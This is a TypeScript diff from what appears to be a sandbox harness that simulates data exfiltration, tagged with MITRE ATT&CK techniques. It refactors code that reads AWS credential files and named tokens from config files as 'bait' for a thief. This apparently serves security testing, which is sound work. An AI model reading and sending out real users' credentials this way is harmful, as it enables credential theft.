@@ -12,12 +12,9 @@ export const ENCODING = 'MITRE ATT&CK T1132.001: standard encoding';
 export const ARCHIVE = 'MITRE ATT&CK T1560.002: archived by a library';
 export const PIECES = 'MITRE ATT&CK T1030: data transfer size limits';
 
-const textOf = (name: string): string => readFileSync(join(guestDir, name), 'utf8');
-
-/** As a thief finds it: in the home folder, or where it was copied from, as root may read less than the agent. */
-function bait(): string {
-  const { HOME = '/' } = process.env;
-  for (const path of [join(HOME, '.aws/credentials'), '/etc/bot-bottle/credentials']) {
+/** The first of these files that can be read. @throws Error `NOT_MADE` where none can: then there is nothing to send */
+function textOf(...paths: readonly string[]): string {
+  for (const path of paths) {
     try {
       return readFileSync(path, 'utf8');
     } catch {
@@ -27,11 +24,15 @@ function bait(): string {
   throw new Error(NOT_MADE);
 }
 
+/** As a thief finds it: in the home folder, or where it was copied from, as root may read less than the agent. */
+const bait = (): string =>
+  textOf(join(process.env['HOME'] ?? '/', '.aws/credentials'), '/etc/bot-bottle/credentials');
+
 /** What lies in the bottle, by its name. */
 function found(name: LeakName): string {
   if (name === 'bait') return bait();
   const tokens = ['settings.json', 'notes.json'].map(
-    (file) => JSON.parse(textOf(file)) as Readonly<Record<string, string>>,
+    (file) => JSON.parse(textOf(join(guestDir, file))) as Readonly<Record<string, string>>,
   );
   const token = tokens.map((those) => those[`${name}Token`]).find((one) => one !== undefined);
   if (token === undefined) throw new Error(NOT_MADE);
